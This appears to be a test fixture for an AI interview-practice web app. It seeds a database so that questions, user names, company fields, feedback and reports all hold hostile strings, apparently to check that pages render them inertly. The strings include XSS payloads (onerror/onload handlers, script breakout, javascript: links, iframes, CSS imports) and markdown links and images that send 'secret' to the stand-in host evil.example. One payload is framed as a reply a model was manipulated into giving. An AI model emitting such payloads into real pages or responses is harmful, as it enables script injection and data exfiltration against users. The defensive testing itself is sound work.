import { createHash } from "node:crypto";
import type { DsaContent } from "../../../domain/authoring/content.ts";
import { connect } from "../../../drizzle/client.ts";
import { config, evaluation, goLive, newId, report, round } from "../../../drizzle/queries/fixtures.ts";
import { createInterview } from "../../../drizzle/queries/interviews.ts";
import { addReport } from "../../../drizzle/queries/question-reports.ts";
import { saveRows } from "../../../drizzle/queries/saved-rows.ts";
import { upsertUser } from "../../../drizzle/queries/users.ts";
import { questions } from "../../../drizzle/schema/questions.ts";
import { bundle } from "../../live/question-bundle.ts";
import type { PageThing } from "../../security/page-access.ts";
import type { Place } from "../running-app.ts";
import { withBank } from "../with-bank.ts";

/** A host that nobody's browser may ever ask for anything. */
export const ELSEWHERE = "evil.example";

/** Text that would run, load, or lead away, wherever it were taken for more than text. */
export const HOSTILE = [
  `<img src=x onerror="window.__ran=1"><svg onload="window.__ran=1"></svg>`,
  `</script><script>window.__ran=1</script>`,
  `![pixel](https://${ELSEWHERE}/p.png?q=secret) [click](javascript:window.__ran=1)`,
  `[out](https://${ELSEWHERE}/?q=secret) <a href="https://${ELSEWHERE}">x</a> <https://${ELSEWHERE}/auto>`,
  `<iframe src="https://${ELSEWHERE}"></iframe><style>@import url(https://${ELSEWHERE}/s.css)</style>`,
].join(" ");

/** What a model was talked into; short enough to pass for an interviewer's turn. */
export const HOSTILE_REPLY = `What does it cost? <img src=x onerror="window.__ran=1"> ![p](https://${ELSEWHERE}/p?q=secret) [out](https://${ELSEWHERE}/?q=secret)`;

/** What stands in one line of a form. */
export const HOSTILE_LINE = `"><img src=x onerror="window.__ran=1">`;

/** The only question that there is: everything secret in it is marked, and everything shown is hostile. */
const question = (): DsaContent => {
  const made = bundle("hostile");
  return {
    ...made,
    question: { ...made.question, title: `Hostile ${HOSTILE_LINE}`, topics: ["arrays"] },
    description: `Find two numbers.\n\n${HOSTILE}`,
  };
};

/** `token`: of a link to the replay of the one with its report. */
export type Seeded = Record<PageThing | "broken", string>;

/** Somebody's interviews as the pages are asked for them: one that has not begun, one with its report, one with a report that cannot be read. */
export async function seedHostile(place: Place, owner: string): Promise<Seeded> {
  const seeded: Seeded = { question: "", open: "", reported: "", round: "", broken: "", token: "" };
  await withBank(place, async (address) => {
    const db = connect(address);
    await db.update(questions).set({ is_active: false });
    seeded.question = await goLive(db, question());
    const user = await upsertUser(db, {
      google_id: `local-${createHash("sha256").update(owner).digest("base64url").slice(0, 24)}`,
      email: owner,
      name: HOSTILE_LINE,
      avatar_url: null,
    });
    const interview = () =>
      createInterview(db, user, {
        type: "DSA",
        difficulty: "EASY",
        config: config({ target_company: HOSTILE_LINE, num_questions: 1 }),
      });
    seeded.open = await interview();
    for (const kind of ["reported", "broken"] as const) {
      const id = await interview();
      seeded[kind] = id;
      const ended_at = Date.now() - 60_000;
      const times = { started_at: ended_at - 600_000, ended_at };
      const asked = round({
        interview_id: id,
        question_id: seeded.question,
        ...times,
        status: "COMPLETED",
        evaluation: evaluation({ feedback: HOSTILE }),
      });
      if (kind === "reported") seeded.round = asked.id;
      const written = report({ detailed_feedback: HOSTILE, rounds: [evaluation({ feedback: HOSTILE })] });
      await saveRows(db, [
        {
          table: "interviews",
          values: {
            id,
            status: "COMPLETED",
            ...times,
            paused_at: null,
            total_duration_sec: 600,
            room_seq: 1,
          },
        },
        { table: "rounds", values: asked },
        {
          table: "interview_feedback",
          values: {
            id: newId(),
            interview_id: id,
            report: kind === "reported" ? written : ({ ...written, overall: "no score" } as never),
            transcript_url: null,
            generated_at: ended_at,
          },
        },
      ]);
      await addReport(db, user, { interview_id: id, round_id: asked.id, kind: "OTHER", note: HOSTILE });
    }
  });
  return seeded;
}
